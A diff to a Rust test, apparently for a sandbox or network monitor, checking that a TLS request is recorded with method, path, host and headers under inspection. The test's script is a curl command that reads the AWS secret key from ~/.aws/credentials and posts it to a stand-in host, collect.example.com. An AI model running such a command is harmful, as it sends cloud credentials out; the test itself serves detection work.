@@ -58,7 +58,7 @@ fn a_key_sent_over_tls_is_seen_only_with_inspection() {
         .unwrap();
         env.fix_owner();
         let script = format!(
-            "curl -sS -m 20 -X POST -H 'Authorization: Bearer {FAKE_TOKEN}' --data-binary \"k=$(sed -n 's/^aws_secret_access_key = //p' ~/.aws/credentials)\" https://collect.example.com/v1/upload"
+            "curl -sS -m 20 -X POST -H 'Authorization: Bearer {FAKE_TOKEN}' --data-binary \"k=$(sed -n 's/^aws_secret_access_key = //p' ~/.aws/credentials)\" 'https://collect.example.com/v1/upload?access_token={FAKE_TOKEN}'"
         );
         let (o, v) = env.run_json(&script, &[]);
         let own = v.to_string() + &stderr(&o);
@@ -71,7 +71,8 @@ fn a_key_sent_over_tls_is_seen_only_with_inspection() {
         let n = &net[0];
         assert_eq!(n["protocol"], "tls", "{n}");
         assert_eq!(n["inspected"], true, "{mode:?}: {n}");
-        assert_eq!((n["method"].as_str(), n["path"].as_str()), (Some("POST"), Some("/v1/upload")), "{n}");
+        assert_eq!(n["method"], "POST", "{n}");
+        assert!(n["path"].as_str().unwrap_or_default().starts_with("/v1/upload?access_token="), "{n}");
         assert_eq!(n["host"], "collect.example.com", "{n}");
         let headers = n["headers"].to_string();
         assert!(headers.contains("authorization") && headers.contains("content-length"), "{n}");
